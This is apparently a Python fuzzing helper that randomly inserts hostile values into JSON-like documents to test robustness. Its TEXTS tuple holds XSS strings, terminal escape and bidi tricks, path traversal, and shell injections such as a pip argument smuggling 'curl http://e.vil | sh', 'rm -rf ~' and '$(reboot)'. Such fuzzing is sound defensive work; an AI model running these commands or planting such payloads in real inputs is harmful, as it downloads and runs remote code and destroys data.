"""Values that a hostile author writes into a document: text, numbers and structures."""

from __future__ import annotations

from random import Random
from typing import Any

TEXTS = (
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;http://e.vil\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "benign\nmalignant   1.000   1.000",
    "\r\x1b[Kerror: pip install evil",
    "\u202egnp.exe",
    "\ud800",
    "\x00",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "-->\n<b>",
    "[click](javascript:alert(1))",
    "![x](http://e.vil/x.png)",
    "http://e.vil/?a=b and www.e.vil or a@e.vil",
    "`rm -rf ~`",
    "# heading",
    "- item\n- item",
    "1. item",
    "| a | b |\n|---|---|",
    "---\nlicense: mit\n---",
    "'x' 'evil-pkg==1' ; curl http://e.vil | sh",
    "--index-url=http://e.vil",
    "$(reboot) `reboot` $x$",
    "../../../etc/passwd",
    "{{ 7 * 7 }} %s {0}",
    "&lt;script&gt;",
    "",
    " ",
    "x" * 300_000,
    "é\u0301\u200d" * 40,
)
NUMBERS = (
    0,
    -1,
    1,
    2**31,
    2**63,
    2**63 + 1,
    -(2**63) - 1,
    10**18,
    10**400,
    10**4200,
    600_002,
    10**8,
    65_536,
    0.5,
    -0.0,
    1e308,
    -1e308,
    1e-320,
    float("nan"),
    float("inf"),
    -float("inf"),
    True,
)


def nested(depth: int) -> Any:
    """Return lists in lists."""
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


def hostile_value(random: Random) -> Any:
    """Return any value that JSON can hold, and some that it cannot."""
    kind = random.randrange(8)
    if kind < 3:
        return random.choice(TEXTS)
    if kind < 6:
        return random.choice(NUMBERS)
    others: tuple[Any, ...] = (None, [], {}, [None], {"": {}}, ["x"] * 1000, nested(90), nested(5), {"a": {"b": {}}})
    return random.choice(others)


def change_anywhere(document: Any, random: Random, value: Any) -> str:
    """Replace, delete or add a value at a random place of a document; return what was done."""
    part, path = document, ""
    while True:
        keys: list[Any] = list(part) if isinstance(part, dict) else list(range(len(part)))
        key = random.choice(keys)
        path += f".{key}"
        inner = part[key]
        if not isinstance(inner, dict | list) or not inner or random.random() < 0.2:
            break
        part = inner
    action = random.random()
    if action < 0.1:
        del part[key]
        return f"{path} deleted"
    if action < 0.2 and isinstance(part, dict):
        part[str(random.choice(TEXTS))] = value
        return f"{path} has a sibling"
    part[key] = value
    return f"{path} replaced"
